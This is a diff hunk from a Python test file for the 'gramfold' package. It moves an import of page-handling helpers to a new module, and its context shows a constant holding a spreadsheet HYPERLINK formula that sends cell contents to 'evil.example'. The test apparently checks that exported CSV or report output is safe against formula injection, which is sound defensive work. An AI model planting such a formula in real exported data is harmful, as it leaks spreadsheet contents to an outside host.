@@ -11,10 +11,10 @@ import pytest
 import gramfold as gf
 from gramfold import wire
 from gramfold.cli.predict import write_table
-from gramfold.engines.folder import page, read_page, seeds_page, write_page
 from gramfold.report import render_page
 from gramfold.report.papers import as_csv
 from gramfold.report.text import cell
+from gramfold.results.folder import page, read_page, seeds_page, write_page
 from gramfold.wire import Packet
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
